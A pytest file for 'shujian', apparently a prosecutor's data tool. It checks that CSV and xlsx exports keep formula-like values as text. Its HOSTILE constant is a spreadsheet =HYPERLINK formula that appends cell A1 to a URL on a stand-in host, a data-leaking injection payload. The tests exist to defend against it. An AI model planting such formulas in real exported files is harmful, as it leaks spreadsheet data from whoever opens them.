"""Values a spreadsheet would take for a formula stay text in every file shujian writes: a
string cell in .xlsx (openpyxl's data_type "s", never "f"), a leading ' in .csv."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from helpers import LIBRARY, load_fixture_data
from shujian import formulas
from shujian.cases import stats as case_stats
from shujian.cli.main import cli
from shujian.data.importer import ImportOptions, import_file
from shujian.data.warehouse import Warehouse
from shujian.juvenile.counting import DIMENSIONS, TOTAL, Period
from shujian.juvenile.figures import Figure
from shujian.juvenile.statistics import Statistics
from shujian.juvenile.supervision import workbook as supervision_workbook
from shujian.juvenile.workbook import write_workbook
from shujian.models.runner import run_models
from shujian.workspace import Workspace

HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"点此查看")'
"""What an agency's file, a form or a file name may carry."""


@pytest.mark.parametrize(
    ("text", "starts", "in_csv"),
    [
        ("=1+1", True, "'=1+1"),
        ("+1+1", True, "'+1+1"),
        ("-2+3", True, "'-2+3"),
        ("@SUM(A1)", True, "'@SUM(A1)"),
        ("\t=1", True, "'\t=1"),
        ("\r=1", True, "'\r=1"),
        ("-", True, "'-"),
        ("+86 139 0000 0000", True, "'+86 139 0000 0000"),
        ("-3", False, "-3"),
        ("+2.5", False, "+2.5"),
        ("-0.75", False, "-0.75"),
        ("'=1", False, "''=1"),
        ("'quoted", False, "''quoted"),
        ("a=1", False, "a=1"),
        ("青岚网吧", False, "青岚网吧"),
        (" =1", False, " =1"),
        ("", False, ""),
    ],
)
def test_the_rule(text: str, starts: bool, in_csv: str) -> None:
    assert formulas.starts_formula(text) is starts
    assert formulas.csv_cell(text) == in_csv
    assert formulas.from_csv(formulas.csv_cell(text)) == text


def string_cells(path: Path) -> dict[str, str]:
    """Every cell holding `HOSTILE` (or a text starting with =) → its openpyxl data type."""
    book = openpyxl.load_workbook(path)
    out = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value.startswith(("=", "-2+3")):
                    out[f"{sheet.title}!{c.coordinate}"] = c.data_type
    return out


def test_lead_exports(workspace: Workspace, tmp_path: Path) -> None:
    def hostile(dataset: str, rows: list[dict[str, Any]]) -> None:
        for r in rows:
            r["旅馆名称"] = HOSTILE

    (tmp_path / "in").mkdir()
    load_fixture_data(workspace, tmp_path / "in", hostile, model_id="hotel.minor_guest")
    run_models(workspace, LIBRARY, ["hotel.minor_guest"], dt.date(2026, 6, 1))
    written = {}
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"leads.{fmt}"
        result = CliRunner().invoke(
            cli,
            ["-w", str(workspace.root), "--user", "检察官甲", "leads", "export",
             "--format", fmt, "-o", str(out)],
            catch_exceptions=False,
        )  # fmt: skip
        assert result.exit_code == 0, result.output
        written[fmt] = out
    cells = string_cells(written["xlsx"])
    assert cells and set(cells.values()) == {"s"}, cells
    with written["csv"].open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows
    values = [v for r in rows for v in r.values()]
    assert not [v for v in values if formulas.starts_formula(v)]
    assert any(HOSTILE in formulas.from_csv(v) for v in values)


def test_rejection_report(workspace: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "=1+1.csv"
    path.write_text(
        "旅馆名称,旅馆统一社会信用代码,房间号,姓名,公民身份号码,入住时间\n"
        "青岚宾馆,91520203MA6PN3MP9H,305,张小雨,520203200908200220,-2+3\n"
        "青岚宾馆,91520203MA6PN3MP9H,306,李明,520203201005010316,2026-03-14 22:10\n",
        encoding="utf-8",
    )
    result = import_file(
        Warehouse(workspace.warehouse_dir, workspace.store),
        workspace.reports_dir,
        workspace.datasets()["hotel_checkins"],
        path,
        ImportOptions(agency=HOSTILE),
    )
    assert result.rejected == 1 and result.report is not None
    cells = string_cells(result.report)
    assert cells == {"概要!B1": "s", "概要!B3": "s", "退回记录!C2": "s"}, cells


def test_case_statistics(tmp_path: Path) -> None:
    row: dict[str, Any] = {key: 0 for key, _ in case_stats.columns()}
    row.update(key=HOSTILE, acceptance_rate=None)
    out = tmp_path / "stats.xlsx"
    case_stats.export_xlsx([row], "department", out)
    cells = string_cells(out)
    assert list(cells.values()) == ["s"], cells


def test_juvenile_statistics(tmp_path: Path) -> None:
    figure = Figure(id="f", label=HOSTILE, count="minors", counted="-2+3 人")
    rows = [{"key": "x", "label": HOSTILE, "f": 1}, {"key": TOTAL, "label": TOTAL, "f": 1}]
    stats = Statistics(
        period=Period(dt.date(2026, 1, 1), dt.date(2026, 6, 30), dt.date(2026, 6, 30)),
        figures=(figure,),
        pending=(),
        tables={by: rows for by in DIMENSIONS},
        unit=HOSTILE,
    )
    out = tmp_path / "minors.xlsx"
    write_workbook(stats, "town", out, dt.date(2026, 7, 1))
    cells = string_cells(out)
    assert len(cells) >= 3 * 2 + 2 and set(cells.values()) == {"s"}, cells


def test_supervision_workbook(tmp_path: Path) -> None:
    sheet = supervision_workbook.Sheet(
        "提示", HOSTILE, ["单位", "姓名"], [[HOSTILE, "-2+3"]], [HOSTILE], notes=[HOSTILE]
    )
    out = supervision_workbook.write(tmp_path / "unit.xlsx", [sheet])
    cells = string_cells(out)
    assert len(cells) == 5 and set(cells.values()) == {"s"}, cells


@pytest.mark.parametrize(
    ("cells", "in_memory"),
    [(0, True), (formulas.IN_MEMORY_CELLS, True), (formulas.IN_MEMORY_CELLS + 1, False)],
)
def test_a_small_workbook_is_assembled_in_memory(cells: int, in_memory: bool) -> None:
    options = formulas.xlsx_options(cells)
    assert options["in_memory"] is in_memory
    assert {k: options[k] for k in formulas.XLSX_OPTIONS} == formulas.XLSX_OPTIONS


@pytest.mark.parametrize("rejected", [3, formulas.IN_MEMORY_CELLS // 4 + 1])
def test_a_rejection_report_is_whole_in_memory_or_not(tmp_path: Path, rejected: int) -> None:
    """Assembled in memory (a few rows) or through temporary files (a large report), the report
    holds every rejection, and hostile text stays a string."""
    from shujian.data.datasets import load_datasets
    from shujian.data.rejections import Rejection, write_report

    path = tmp_path / "report.xlsx"
    rejections = [Rejection(i + 2, "入住时间", HOSTILE, "无法识别的时间") for i in range(rejected)]
    record = {"rows_read": rejected, "imported": 0, "rejected": rejected}
    record |= {"skipped": 0, "duplicates": 0, "agency": None}
    write_report(path, load_datasets()["hotel_checkins"], "入住.csv", record, rejections, [])
    book = openpyxl.load_workbook(path, read_only=True)
    rows = list(book["退回记录"].iter_rows(values_only=True))
    assert len(rows) == rejected + 1
    assert rows[-1] == (rejected + 1, "入住时间", HOSTILE, "无法识别的时间")
    assert not list(tmp_path.glob(".tmp-*"))
